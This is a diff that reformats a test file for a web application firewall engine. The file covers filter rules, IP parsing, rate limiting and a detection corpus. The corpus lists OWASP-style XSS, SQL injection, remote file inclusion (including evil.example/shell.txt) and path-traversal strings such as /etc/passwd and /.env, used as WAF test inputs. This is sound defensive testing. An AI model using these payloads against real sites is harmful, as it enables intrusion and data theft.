@@ -1,9 +1,24 @@
 import { describe, expect, it } from 'vitest';
-import { compileWebsite, inNet, ipv4Number, parseNet, type EnginePolicy, type EngineRequest, type EngineRule } from '../../common/rules/websites/engine';
+import {
+  compileWebsite,
+  inNet,
+  ipv4Number,
+  parseNet,
+  type EnginePolicy,
+  type EngineRequest,
+  type EngineRule,
+} from '../../common/rules/websites/engine';
 import { clientAppOf, WAF_ATTACK_SAMPLES } from '../../common/rules/websites/catalogue';
 import { compileWebsiteWithRates, createRateLimiter, type RatedRule } from '../../common/rules/websites/rateLimiter';
 import { isIPv4 } from '../../common/rules/domains/formats';
-import { isSafeRegex, validateRule, validateWebsite, parseOrigin, type RuleFilter, type WebsiteInput } from '../../common/rules/websites/index';
+import {
+  isSafeRegex,
+  validateRule,
+  validateWebsite,
+  parseOrigin,
+  type RuleFilter,
+  type WebsiteInput,
+} from '../../common/rules/websites/index';
 
 /**
  * The website protection engine (issue #18): every filter field and operator, the evaluation order
@@ -12,17 +27,45 @@ import { isSafeRegex, validateRule, validateWebsite, parseOrigin, type RuleFilte
  */
 
 const req = (over: Partial<EngineRequest> = {}): EngineRequest => ({
-  method: 'GET', url: '/', clientIp: '198.51.100.10', country: 'CN',
+  method: 'GET',
+  url: '/',
+  clientIp: '198.51.100.10',
+  country: 'CN',
   userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
-  referer: '', headers: {}, ...over,
+  referer: '',
+  headers: {},
+  ...over,
 });
 
-const WAF_ALL: EnginePolicy['waf'] = { xss: 'block_request', sqli: 'block_request', rfi: 'block_request', illegalResource: 'block_request' };
+const WAF_ALL: EnginePolicy['waf'] = {
+  xss: 'block_request',
+  sqli: 'block_request',
+  rfi: 'block_request',
+  illegalResource: 'block_request',
+};
 const policy = (over: Partial<EnginePolicy>): EnginePolicy => ({
-  id: 1, name: 'p', type: 1, enabled: true, countries: [], urls: [], ips: [], clientAppIds: [], exceptions: [], waf: WAF_ALL, ...over,
+  id: 1,
+  name: 'p',
+  type: 1,
+  enabled: true,
+  countries: [],
+  urls: [],
+  ips: [],
+  clientAppIds: [],
+  exceptions: [],
+  waf: WAF_ALL,
+  ...over,
 });
 const rule = (over: Partial<EngineRule>): EngineRule => ({
-  id: 100, name: 'r', enabled: true, priority: 1, actionType: 3, action: { mode: 'block' }, filters: [], clientAppIds: [], ...over,
+  id: 100,
+  name: 'r',
+  enabled: true,
+  priority: 1,
+  actionType: 3,
+  action: { mode: 'block' },
+  filters: [],
+  clientAppIds: [],
+  ...over,
 });
 const only = (f: RuleFilter) => compileWebsite([], [rule({ filters: [f] })]);
 
@@ -60,7 +103,18 @@ describe('filters: every field and operator', () => {
   });
 
   it('all filters of a rule must match (AND), and its client apps', () => {
-    const ev = compileWebsite([], [rule({ filters: [{ field: 'path', operator: 'startsWith', value: '/api' }, { field: 'method', operator: 'equals', value: 'POST' }], clientAppIds: ['curl'] })]);
+    const ev = compileWebsite(
+      [],
+      [
+        rule({
+          filters: [
+            { field: 'path', operator: 'startsWith', value: '/api' },
+            { field: 'method', operator: 'equals', value: 'POST' },
+          ],
+          clientAppIds: ['curl'],
+        }),
+      ],
+    );
     expect(ev(req({ url: '/api', method: 'POST', userAgent: 'curl/8.1' })).action).toBe('block');
     expect(ev(req({ url: '/api', method: 'POST' })).action).toBe('pass');
     expect(ev(req({ url: '/api', method: 'GET', userAgent: 'curl/8.1' })).action).toBe('pass');
@@ -69,8 +123,25 @@ describe('filters: every field and operator', () => {
 
 describe('client IPs and networks (parsed once per request)', () => {
   it('reads IPv4 exactly like isIPv4, as its 32-bit number', () => {
-    const texts = ['0.0.0.0', '255.255.255.255', '1.2.3.4', '10.0.0.01', '256.1.1.1', '1.2.3', '1.2.3.4.5', '1..2.3', '.1.2.3', '1.2.3.', '01.2.3.4',
-      '1.2.3.4 ', 'a.b.c.d', '1.2.3.1000', '', '::1', '100.200.30.4'];
+    const texts = [
+      '0.0.0.0',
+      '255.255.255.255',
+      '1.2.3.4',
+      '10.0.0.01',
+      '256.1.1.1',
+      '1.2.3',
+      '1.2.3.4.5',
+      '1..2.3',
+      '.1.2.3',
+      '1.2.3.',
+      '01.2.3.4',
+      '1.2.3.4 ',
+      'a.b.c.d',
+      '1.2.3.1000',
+      '',
+      '::1',
+      '100.200.30.4',
+    ];
     for (const t of texts) expect([t, ipv4Number(t) >= 0]).toEqual([t, isIPv4(t)]);
     expect(ipv4Number('255.255.255.255')).toBe(0xffffffff);
     expect(ipv4Number('10.1.2.3')).toBe(0x0a010203);
@@ -97,7 +168,16 @@ describe('order and actions', () => {
   it('allow list bypasses everything, access-control list blocks with exceptions', () => {
     const ev = compileWebsite(
       [
-        policy({ id: 1, name: 'acl', type: 1, countries: ['RU'], ips: ['203.0.113.0/24'], urls: ['/admin/*'], clientAppIds: ['sqlmap'], exceptions: ['203.0.113.7', '/admin/health'] }),
+        policy({
+          id: 1,
+          name: 'acl',
+          type: 1,
+          countries: ['RU'],
+          ips: ['203.0.113.0/24'],
+          urls: ['/admin/*'],
+          clientAppIds: ['sqlmap'],
+          exceptions: ['203.0.113.7', '/admin/health'],
+        }),
         policy({ id: 2, name: 'allow', type: 2, ips: ['192.0.2.1'], urls: ['/public/*'] }),
         policy({ id: 3, name: 'waf', type: 3 }),
       ],
@@ -119,21 +199,30 @@ describe('order and actions', () => {
   });
 
   it('rules by priority: a terminal action decides, non-terminal ones are collected', () => {
-    const ev = compileWebsite([], [
-      rule({ id: 1, priority: 3, actionType: 1, action: { target: '/new', statusCode: 301 } }),
-      rule({ id: 2, priority: 1, actionType: 4, action: { url: '/v2' } }),
-      rule({ id: 3, priority: 2, actionType: 2, action: { requests: 10, blockTime: 60 } }),
-    ]);
+    const ev = compileWebsite(
+      [],
+      [
+        rule({ id: 1, priority: 3, actionType: 1, action: { target: '/new', statusCode: 301 } }),
+        rule({ id: 2, priority: 1, actionType: 4, action: { url: '/v2' } }),
+        rule({ id: 3, priority: 2, actionType: 2, action: { requests: 10, blockTime: 60 } }),
+      ],
+    );
     const d = ev(req());
     expect(d.action).toBe('redirect');
     expect(d.decidedBy?.id).toBe(1);
     expect(d.matches.map((m) => m.id)).toEqual([2, 3, 1]);
     const types: Array<[EngineRule['actionType'], EngineRule['action'], string]> = [
-      [1, { target: '/n', statusCode: 302 }, 'redirect'], [2, { requests: 5, blockTime: 1 }, 'rate_limit'], [3, { mode: 'challenge' }, 'challenge'],
-      [3, { mode: 'block' }, 'block'], [4, { url: '/x' }, 'rewrite_request'], [5, { origin: 'b.example.com' }, 'forward'],
-      [6, { headers: [{ name: 'X', value: '1' }] }, 'rewrite_response'], [7, { overrides: { xss: 'alert' } }, 'override_waf'],
+      [1, { target: '/n', statusCode: 302 }, 'redirect'],
+      [2, { requests: 5, blockTime: 1 }, 'rate_limit'],
+      [3, { mode: 'challenge' }, 'challenge'],
+      [3, { mode: 'block' }, 'block'],
+      [4, { url: '/x' }, 'rewrite_request'],
+      [5, { origin: 'b.example.com' }, 'forward'],
+      [6, { headers: [{ name: 'X', value: '1' }] }, 'rewrite_response'],
+      [7, { overrides: { xss: 'alert' } }, 'override_waf'],
     ];
-    for (const [actionType, action, expected] of types) expect(compileWebsite([], [rule({ actionType, action })])(req()).action).toBe(expected);
+    for (const [actionType, action, expected] of types)
+      expect(compileWebsite([], [rule({ actionType, action })])(req()).action).toBe(expected);
     expect(compileWebsite([], [rule({ enabled: false })])(req()).action).toBe('pass');
   });
 
@@ -144,7 +233,10 @@ describe('order and actions', () => {
     expect(ev(req({ url: "/item?id=1' OR '1'='1" })).action).toBe('block_ip');
     expect(ev(req({ url: '/?page=http://evil.example/shell.txt' })).action).toBe('alert');
     expect(ev(req({ url: '/../../etc/passwd' })).action).toBe('pass');
-    const overridden = compileWebsite([waf], [rule({ actionType: 7, action: { overrides: { xss: 'alert', illegalResource: 'block_user' } } })]);
+    const overridden = compileWebsite(
+      [waf],
+      [rule({ actionType: 7, action: { overrides: { xss: 'alert', illegalResource: 'block_user' } } })],
+    );
     expect(overridden(req({ url: '/?q=<script>x</script>' })).action).toBe('alert');
     expect(overridden(req({ url: '/static/../../etc/passwd' })).action).toBe('block_user');
   });
@@ -153,30 +245,80 @@ describe('order and actions', () => {
 // A corpus of attack strings per category (from the classic OWASP test strings) and benign URLs.
 const ATTACKS: Record<string, string[]> = {
   xss: [
-    '/search?q=<script>alert(1)</script>', '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', '/p?x=<img src=x onerror=alert(1)>',
-    '/p?x=<svg/onload=alert(1)>', '/go?u=javascript:alert(1)', '/?a=<iframe src=//evil.example>', '/?a=<body onload=alert(1)>',
-    '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', '/?n="><script>eval(atob(x))</script>', '/?x=<a href="javascript:void(0)">',
+    '/search?q=<script>alert(1)</script>',
+    '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
+    '/p?x=<img src=x onerror=alert(1)>',
+    '/p?x=<svg/onload=alert(1)>',
+    '/go?u=javascript:alert(1)',
+    '/?a=<iframe src=//evil.example>',
+    '/?a=<body onload=alert(1)>',
+    '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E',
+    '/?n="><script>eval(atob(x))</script>',
+    '/?x=<a href="javascript:void(0)">',
   ],
   sqli: [
-    "/item?id=1' OR '1'='1", '/item?id=1 UNION SELECT username,password FROM users', '/item?id=1; DROP TABLE users', "/login?u=admin'--",
-    '/item?id=1 AND 1=1', '/item?id=1 OR sleep(5)', "/item?id=1' AND benchmark(1000000,md5(1))", '/x?id=1 union all select null,table_name from information_schema.tables',
-    "/x?id=1%27%20OR%20%271%27%3D%271", "/q?id=1'/*", '/q?id=-1 union/**/select 1,2,3',
+    "/item?id=1' OR '1'='1",
+    '/item?id=1 UNION SELECT username,password FROM users',
+    '/item?id=1; DROP TABLE users',
+    "/login?u=admin'--",
+    '/item?id=1 AND 1=1',
+    '/item?id=1 OR sleep(5)',
+    "/item?id=1' AND benchmark(1000000,md5(1))",
+    '/x?id=1 union all select null,table_name from information_schema.tables',
+    '/x?id=1%27%20OR%20%271%27%3D%271',
+    "/q?id=1'/*",
+    '/q?id=-1 union/**/select 1,2,3',
   ],
   rfi: [
-    '/index.php?page=http://evil.example/shell.txt', '/index.php?file=ftp://evil.example/x.php', '/index.php?inc=https://evil.example/a',
-    '/?p=php://input', '/?p=data://text/plain;base64,PD9waHA=', '/?p=expect://id', '/?template=http://evil.example/t',
+    '/index.php?page=http://evil.example/shell.txt',
+    '/index.php?file=ftp://evil.example/x.php',
+    '/index.php?inc=https://evil.example/a',
+    '/?p=php://input',
+    '/?p=data://text/plain;base64,PD9waHA=',
+    '/?p=expect://id',
+    '/?template=http://evil.example/t',
   ],
   illegalResource: [
-    '/../../etc/passwd', '/static/..%2f..%2fetc/passwd', '/.env', '/.git/config', '/backup.sql', '/wp-config.php', '/site.tar.gz',
-    '/download?f=..\\..\\windows\\win.ini', '/.htaccess', '/proc/self/environ', '/index.php.bak',
+    '/../../etc/passwd',
+    '/static/..%2f..%2fetc/passwd',
+    '/.env',
+    '/.git/config',
+    '/backup.sql',
+    '/wp-config.php',
+    '/site.tar.gz',
+    '/download?f=..\\..\\windows\\win.ini',
+    '/.htaccess',
+    '/proc/self/environ',
+    '/index.php.bak',
   ],
 };
 const BENIGN = [
-  '/', '/index.html', '/products?id=42&sort=price', '/search?q=red+shoes', '/search?q=select+a+union+rep', "/blog/o'reilly-books",
-  '/api/v1/orders?from=2026-01-01&to=2026-01-31', '/img/logo.png', '/css/site.css?v=3', '/login', '/about-us', '/news/2026/11/25/story',
-  '/search?q=1+%2B+1+%3D+2', '/docs/select-and-union', '/?utm_source=newsletter&utm_medium=email', '/cart?item=12&qty=2',
-  '/static/app.js', '/video/playlist.m3u8', '/en/help/faq#scripts', '/?redirect=/account', '/users/drop-shipping', '/profile?tab=settings',
-  '/search?q=how+to+write+a+script', '/files/report-2026.pdf', '/map?lat=31.2&lng=121.4', '/search?q=javascript+tutorial',
+  '/',
+  '/index.html',
+  '/products?id=42&sort=price',
+  '/search?q=red+shoes',
+  '/search?q=select+a+union+rep',
+  "/blog/o'reilly-books",
+  '/api/v1/orders?from=2026-01-01&to=2026-01-31',
+  '/img/logo.png',
+  '/css/site.css?v=3',
+  '/login',
+  '/about-us',
+  '/news/2026/11/25/story',
+  '/search?q=1+%2B+1+%3D+2',
+  '/docs/select-and-union',
+  '/?utm_source=newsletter&utm_medium=email',
+  '/cart?item=12&qty=2',
+  '/static/app.js',
+  '/video/playlist.m3u8',
+  '/en/help/faq#scripts',
+  '/?redirect=/account',
+  '/users/drop-shipping',
+  '/profile?tab=settings',
+  '/search?q=how+to+write+a+script',
+  '/files/report-2026.pdf',
+  '/map?lat=31.2&lng=121.4',
+  '/search?q=javascript+tutorial',
 ];
 
 describe('WAF signature corpus', () => {
@@ -194,7 +336,9 @@ describe('WAF signature corpus', () => {
       }
     }
     const falsePositives = BENIGN.filter((url) => ev(req({ url })).action !== 'pass');
-    console.log(`WAF corpus: detection ${detected}/${total} (${((detected / total) * 100).toFixed(1)} %), false positives ${falsePositives.length}/${BENIGN.length} (${((falsePositives.length / BENIGN.length) * 100).toFixed(1)} %)`);
+    console.log(
+      `WAF corpus: detection ${detected}/${total} (${((detected / total) * 100).toFixed(1)} %), false positives ${falsePositives.length}/${BENIGN.length} (${((falsePositives.length / BENIGN.length) * 100).toFixed(1)} %)`,
+    );
     expect(missed).toEqual([]);
     expect(falsePositives).toEqual([]);
   });
@@ -220,12 +364,22 @@ describe('rules of the forms', () => {
     expect(parseOrigin('http://origin.example.com')).toBeNull();
     expect(parseOrigin('1.2.3.4:99999')).toBeNull();
     const w: WebsiteInput = {
-      domain: 'a.example.com', originType: 'multiple', lbMode: 'weighted', remark: '', certificateId: null, enabled: true,
+      domain: 'a.example.com',
+      originType: 'multiple',
+      lbMode: 'weighted',
+      remark: '',
+      certificateId: null,
+      enabled: true,
       hsts: { enabled: false, maxAge: 0, includeSubdomains: false },
-      origins: [{ address: 'a.example.com', weight: 50, role: 'active' }, { address: 'b.example.com', weight: 50, role: 'standby' }],
+      origins: [
+        { address: 'a.example.com', weight: 50, role: 'active' },
+        { address: 'b.example.com', weight: 50, role: 'standby' },
+      ],
     };
     expect(validateWebsite(w)).toEqual([]);
-    expect(validateWebsite({ ...w, origins: [{ ...w.origins[0], weight: 40 }, w.origins[1]] }).map((p) => p.key)).toEqual(['wafWeightsSum']);
+    expect(validateWebsite({ ...w, origins: [{ ...w.origins[0], weight: 40 }, w.origins[1]] }).map((p) => p.key)).toEqual([
+      'wafWeightsSum',
+    ]);
     expect(validateWebsite({ ...w, lbMode: 'random', origins: [{ ...w.origins[0], weight: 40 }, w.origins[1]] })).toEqual([]);
     expect(validateWebsite({ ...w, remark: 'x'.repeat(101) }).map((p) => p.key)).toEqual(['wafRemarkTooLong']);
   });
@@ -248,7 +402,13 @@ describe('rules of the forms', () => {
 
 describe('rate limiting (the counter beside the pure evaluator)', () => {
   const login: RatedRule = {
-    ...rule({ id: 7, name: 'login', actionType: 2, action: { requests: 3, blockTime: 30 }, filters: [{ field: 'path', operator: 'equals', value: '/login' }] }),
+    ...rule({
+      id: 7,
+      name: 'login',
+      actionType: 2,
+      action: { requests: 3, blockTime: 30 },
+      filters: [{ field: 'path', operator: 'equals', value: '/login' }],
+    }),
     interval: 10,
   };
   const post = (clientIp: string) => req({ method: 'POST', url: '/login', clientIp });
@@ -280,7 +440,10 @@ describe('rate limiting (the counter beside the pure evaluator)', () => {
 
   it('under the limit the decision is the one without the rate rule; a block stays a block', () => {
     const rewrite = rule({ id: 8, name: 'rewrite', priority: 2, actionType: 4, action: { url: '/signin' } });
-    const ev = compileWebsiteWithRates([policy({ id: 2, type: 3, waf: { ...WAF_ALL, sqli: 'block_ip' } })], [login, { ...rewrite, interval: 60 }]);
+    const ev = compileWebsiteWithRates(
+      [policy({ id: 2, type: 3, waf: { ...WAF_ALL, sqli: 'block_ip' } })],
+      [login, { ...rewrite, interval: 60 }],
+    );
     expect(ev(post('192.0.2.4'), 0).action).toBe('rewrite_request');
     expect(ev(req({ method: 'POST', url: "/login?u=admin'--", clientIp: '192.0.2.4' }), 1).action).toBe('block_ip');
     ev(post('192.0.2.4'), 2);
